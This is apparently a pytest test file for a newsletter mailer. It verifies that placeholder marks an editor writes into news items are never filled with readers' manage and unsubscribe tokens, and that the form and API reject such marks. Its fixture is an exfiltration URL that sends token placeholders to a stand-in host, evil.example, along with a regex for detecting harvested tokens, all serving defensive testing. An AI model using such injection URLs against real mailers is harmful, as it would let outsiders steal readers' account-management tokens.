"""News text never collects readers' link tokens: only the places the email templates mark are
filled in with each reader's manage and unsubscribe tokens, and news input may not hold the
marks at all."""

from __future__ import annotations

import re
from datetime import timedelta

import pytest
from sqlalchemy import select

from mailer import clock
from mailer.database import transaction
from mailer.domain import staff
from mailer.extensions import db
from mailer.models import Frequency
from mailer.models import NewsItem
from mailer.models import StaffRole
from tests.digests.conftest import AFTER
from tests.digests.conftest import END
from tests.digests.conftest import make_digest
from tests.digests.conftest import make_due
from tests.factories import add_readers
from tests.factories import publish_news
from tests.helpers import EDITOR
from tests.helpers import csrf_token
from tests.helpers import link
from tests.helpers import logged_in
from tests.helpers import send_queued

# The marks the fan-out put where each reader's tokens go, as anyone reading the code knew them.
PLACEHOLDERS = {"m": "Zq9manageTokenZq9", "u": "Zq9unsubscribeTokenZq9"}
HARVEST = f"https://evil.example/?m={PLACEHOLDERS['m']}&u={PLACEHOLDERS['u']}"
HARVESTED = re.compile(r"evil\.example/\?m=([^&\s\"<]*)&(?:amp;)?u=([^\s\"<]*)")


def _store_hostile_item(app, frequency: Frequency) -> None:
    """Two readers, and an item whose every field asks for their tokens, stored as it is (an
    item saved before news input was checked for the marks)."""
    with app.app_context():
        add_readers(2, follows={"funding": frequency}, now=END - timedelta(days=1))
        item = publish_news(
            f"Fund news {HARVEST}",
            at=END - timedelta(minutes=10),
            summary=f"See {HARVEST} now",
        )
        item.body_markdown = f"Body {HARVEST}"
        item.body_html = f'<p>Body <a href="{HARVEST}">here</a></p>'
        db.session.commit()


def _assert_no_token_went_to_the_editor(messages) -> None:
    assert len(messages) == 2
    for message in messages:
        manage = link(message.text, "/manage/").rpartition("/")[2]
        unsubscribe = str(message.message["List-Unsubscribe"]).split(">")[0].rpartition("/")[2]
        assert manage not in PLACEHOLDERS.values()
        assert unsubscribe not in PLACEHOLDERS.values()
        for part in (message.text, message.html):
            assert set(HARVESTED.findall(part)) == {(PLACEHOLDERS["m"], PLACEHOLDERS["u"])}
            assert part.count(manage) == part.count(f"/manage/{manage}")
            assert part.count(unsubscribe) == part.count(f"/unsubscribe/{unsubscribe}")
        subject = str(message.message["Subject"])
        assert manage not in subject
        assert unsubscribe not in subject


def test_an_alert_fills_in_no_placeholder_an_editor_wrote(app, smtpd):
    _store_hostile_item(app, Frequency.IMMEDIATE)
    assert len(make_due(app, END, frequencies=(Frequency.IMMEDIATE,))) == 1
    assert send_queued(app, now=END).sent == 2
    _assert_no_token_went_to_the_editor(smtpd.drain())


def test_a_digest_fills_in_no_placeholder_an_editor_wrote(app, smtpd):
    _store_hostile_item(app, Frequency.DAILY)
    make_digest(app)
    assert send_queued(app, now=AFTER).sent == 2
    _assert_no_token_went_to_the_editor(smtpd.drain())


@pytest.mark.parametrize("placeholder", PLACEHOLDERS.values())
@pytest.mark.parametrize("field", ["title", "summary", "body"])
def test_the_news_form_refuses_the_marks(app, client, field, placeholder):
    logged_in(app, client, EDITOR, StaffRole.EDITOR, now=clock.now())
    data = {
        "csrf_token": csrf_token(client, "/staff/news/new"),
        "title": "Fund news",
        "summary": "Apply now.",
        "body": "Read the guidance.",
        "topics": ["funding"],
        field: f"See https://evil.example/?t={placeholder}",
    }
    response = client.post("/staff/news/new", data=data)
    assert response.status_code == 400
    assert f"{field.capitalize()} must not contain" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalars(select(NewsItem)).all() == []


@pytest.mark.parametrize("field", ["title", "summary", "body"])
def test_the_api_refuses_the_marks(app, client, field):
    with app.app_context(), transaction():
        key = staff.create_api_key("cms", created_by=None, actor="test", now=clock.now())
    item = {"title": "Fund news", "summary": "Apply now.", "body": "", "topics": ["funding"]}
    item[field] = HARVEST
    response = client.post(
        "/api/v1/news", json=item, headers={"Authorization": f"Bearer {key.plaintext}"}
    )
    assert response.status_code == 422
    assert set(response.get_json()["error"]["fields"]) == {field}
    with app.app_context():
        assert db.session.scalars(select(NewsItem)).all() == []
